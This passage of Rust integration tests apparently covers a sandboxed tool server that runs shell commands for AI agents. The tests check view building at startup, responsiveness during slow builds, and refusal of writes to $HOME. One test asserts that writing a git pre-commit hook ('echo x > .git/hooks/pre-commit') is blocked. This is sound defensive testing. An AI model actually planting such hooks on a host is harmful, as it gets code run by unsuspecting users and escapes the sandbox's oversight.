        .arg("--sandbox")
        .arg(&policy)
        .env("OLLIE_CFG_PATH", dir.join("cfg"))
        .env("TOOLSRV_VIEW", "off")
        .output()
        .expect("run toolsrv serve");
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("no filesystem view can be made") && err.contains("best_effort: false"),
        "{err}"
    );
}

/// How many views the server's log says were built.
fn views_built(srv: &Server) -> usize {
    srv.log_text().matches("filesystem view built").count()
}

/// The main policy's view is built when the server starts, not by the first
/// run (which used to wait for it on the server's one runtime thread: a
/// fifth of a second on a root server scanning for root-only files, with
/// every connection stalled); and what appears on the host later is
/// protected in place, in the view the runs share (no rebuild: a tool that
/// plants repositories cannot make every call build a view).
#[test]
fn the_view_is_built_at_startup_and_protects_what_appears_in_place() {
    let (_d, cwd) = tmp();
    let mut s = Session::no_auth(Launch::new().cwd(&cwd));
    // No run yet: only `load` went over the socket.
    s.srv.wait_log("filesystem view built");
    s.ok("true");
    assert_eq!(views_built(&s.srv), 1, "{}", s.srv.log_text());
    // A repository appears in the workspace at once (made elsewhere, moved
    // in), as a human's `git clone` would leave it.
    let (_g, elsewhere) = tmp();
    let o = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&elsewhere)
        .output()
        .expect("git");
    assert!(o.status.success(), "{o:?}");
    std::fs::rename(elsewhere.join(".git"), cwd.join(".git")).expect("move .git");
    assert!(
        wait_until(WAIT, || s
            .srv
            .log_text()
            .contains("protected what appeared on the host, in place")),
        "not protected in place: {}",
        s.srv.log_text()
    );
    s.refused("echo x > .git/hooks/pre-commit");
    assert_eq!(views_built(&s.srv), 1, "{}", s.srv.log_text());
}

/// A run that needs a filesystem view which is not built yet waits for it on
/// a blocking thread, and the server goes on answering everyone else. (It
/// used to build the view on its one runtime thread, so every connection
/// stalled for the build.) A profile's view is built by its first run; this
/// profile reads a directory of 8,000 root-only files, each hidden by a
/// mount where tools run as root (`TOOLSRV_USERNS=root`: the root-only scan
/// of that fallback), so the build lasts long enough to be seen: the scan
/// for them is logged, then the mounts are made, then "filesystem view
/// built".
///
/// Expected: while that build is under way (its scan logged, the view not
/// yet built), another connection reads `info`, and the view is still not
/// built when the answer arrives; the run then succeeds.
#[test]
fn other_connections_are_answered_while_a_view_is_built() {
    let (_d, dir) = tmp();
    let many = dir.join("many");
    std::fs::create_dir(&many).expect("many");
    std::fs::set_permissions(&many, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    for i in 0..8000 {
        let f = many.join(format!("k{i}"));
        std::fs::write(&f, "").expect("file");
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    }
    let rules = |ro: Vec<String>| {
        serde_json::json!({
            "filesystem": {
                "ro": ro,
                "rox": ["/usr", "/bin", "/sbin", "/lib", "/lib64"],
                "rw": ["/dev/null"],
                "rwx": ["{CWD}"],
            },
            "advanced": {"add_exec": true},
        })
        .to_string()
    };
    std::fs::create_dir(dir.join("sandbox")).expect("profiles");
    std::fs::write(dir.join("sandbox.yaml"), rules(vec!["/etc".into()])).expect("policy");
    std::fs::write(
        dir.join("sandbox/slow.yaml"),
        rules(vec!["/etc".into(), many.display().to_string()]),
    )
    .expect("profile");
    let ps = dir.join("sandbox.yaml").display().to_string();
    let mut s = Session::no_auth(
        Launch::new()
            .args(["--sandbox", &ps])
            .env("TOOLSRV_USERNS", "root"),
    );
    s.ok("true");
    let scans = |srv: &Server| {
        srv.log_text()
            .matches("root-only files under read rules count=")
            .count()
    };
    assert_eq!(scans(&s.srv), 1, "{}", s.srv.log_text());
    let Session { srv, mut c, .. } = s;
    let slow = std::thread::spawn(move || {
        call(
            &mut c,
            &[
                ("tool", "shell"),
                ("agent", "a1"),
                ("command", "echo ran"),
                ("sandbox", "slow"),
            ],
        )
    });
    assert!(
        wait_until(WAIT, || scans(&srv) == 2),
        "the profile's scan never ran: {}",
        srv.log_text()
    );
    let mut other = srv.attached();
    let info = other.json("info");
    let built = views_built(&srv);
    let r = slow.join().expect("the slow call");
    assert!(info.is_object(), "{info}");
    assert_eq!(
        built,
        1,
        "`info` was answered only after the view was built: {}",
        srv.log_text()
    );
    assert_eq!(out(&r), (false, "ran\n".to_string()), "{r}");
    assert_eq!(views_built(&srv), 2, "{}", srv.log_text());
}

/// Issue 35, item 11: a program that writes its own dot entry in `$HOME`
/// (nyc's `~/.node-spawn-wrap-<pid>`) is refused there under the built-in
/// policy, and works with `HOME=$TMPDIR` (docs/sandbox-policy.md, "Programs
/// that write dotfiles in a read-only `$HOME`"); the human's home is
/// untouched either way.
#[test]
fn a_program_writing_dotfiles_in_home_works_with_home_in_the_private_tmpdir() {
    let (_h, h) = tmp();
    let (_c, cwd) = tmp();
    let hs = h.display().to_string();
    let mut s = Session::no_auth(Launch::new().cwd(&cwd).env("HOME", &hs));
    s.refused("echo x > ~/.node-spawn-wrap-1");
    assert_eq!(
        s.ok("HOME=$TMPDIR; echo x > ~/.node-spawn-wrap-1 && cat ~/.node-spawn-wrap-1"),
        "x\n"
    );
    assert!(!h.join(".node-spawn-wrap-1").exists());
}
